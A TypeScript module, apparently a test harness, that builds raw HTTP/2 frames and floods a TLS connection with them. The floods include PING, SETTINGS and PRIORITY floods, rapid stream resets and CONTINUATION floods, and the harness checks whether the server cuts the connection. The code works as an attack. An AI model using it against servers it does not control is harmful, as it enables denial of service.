import type { TLSSocket } from 'node:tls';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS] = [0, 1, 2, 3, 4];
const [PING, GOAWAY, CONTINUATION] = [6, 7, 9];
export const WINDOW_UPDATE = 8;
const [END_STREAM, END_HEADERS] = [1, 4];
const [MANY, AT_ONCE] = [20_000, 200];

interface Frame {
  flags?: number;
  stream?: number;
  content?: Buffer;
}

export function frame(kind: number, { flags = 0, stream = 0, content = Buffer.alloc(0) }: Frame = {}): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head[3] = kind;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

export const four = (value: number): Buffer =>
  Buffer.from([value >>> 24, value >>> 16, value >>> 8, value].map((n) => n & 255));

/** `:method GET`, `:scheme https`, `:path /`, and an authority. */
function getOf(host: string) {
  const content = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, host.length]), Buffer.from(host)]);
  return (stream: number, flags = END_STREAM | END_HEADERS) => frame(HEADERS, { flags, stream, content });
}

/** Sends one after the other as fast as they are taken. Whether the edge put an end to it. */
export async function flood(socket: TLSSocket, frames: (count: number) => Buffer): Promise<boolean> {
  socket.resume();
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS)]));
  for (let sent = 0; sent < MANY && !socket.destroyed; sent += AT_ONCE) {
    socket.write(Buffer.concat(Array.from({ length: AT_ONCE }, (_, at) => frames(sent + at))));
    do await new Promise(setImmediate);
    while (socket.writableNeedDrain && !socket.destroyed);
  }
  return socket.destroyed;
}

/** Of every request its own stream. */
const streamOf = (count: number): number => count * 2 + 1;

/** What a hostile client sends without end, by its number. */
export function floodsOf(host: string): Record<string, (count: number) => Buffer> {
  const get = getOf(host);
  const inStream = (count: number, kind: number, content: Buffer) =>
    Buffer.concat([get(streamOf(count)), frame(kind, { stream: streamOf(count), content })]);
  const afterHead = (flags: number, next: Buffer) => (count: number) => (count === 0 ? get(1, flags) : next);
  const part = Buffer.from('\0\x01a\x01a');
  return {
    'questions whether we are there': () => frame(PING, { content: Buffer.alloc(8) }),
    settings: () => frame(SETTINGS, { content: Buffer.from([0, 4, 0, 1, 0, 0]) }),
    requests: (count) => get(streamOf(count)),
    'requests that it takes back': (count) => inStream(count, RST_STREAM, four(8)),
    'requests that it breaks': (count) => inStream(count, WINDOW_UPDATE, four(0)),
    'parts of one head': afterHead(END_STREAM, frame(CONTINUATION, { stream: 1, content: part })),
    'empty parts of one head': afterHead(END_STREAM, frame(CONTINUATION, { stream: 1 })),
    'empty parts of a body': afterHead(END_HEADERS, frame(DATA, { stream: 1 })),
    priorities: () => frame(PRIORITY, { stream: 1, content: Buffer.from([0, 0, 0, 0, 1]) }),
  };
}

/** A right beginning, for others to spoil: settings, a request, one with a body, a question, an end. */
export function rightFrames(host: string): Buffer {
  const get = getOf(host);
  return Buffer.concat([
    Buffer.from(PREFACE),
    frame(SETTINGS, { content: Buffer.from([0, 4, 0, 1, 0, 0]) }),
    frame(SETTINGS, { flags: 1 }),
    get(1),
    get(3, END_HEADERS),
    frame(DATA, { flags: END_STREAM, stream: 3, content: Buffer.from('{}') }),
    frame(WINDOW_UPDATE, { content: four(1000) }),
    frame(PING, { content: Buffer.alloc(8) }),
    frame(RST_STREAM, { stream: 1, content: four(8) }),
    frame(GOAWAY, { content: Buffer.alloc(8) }),
  ]);
}
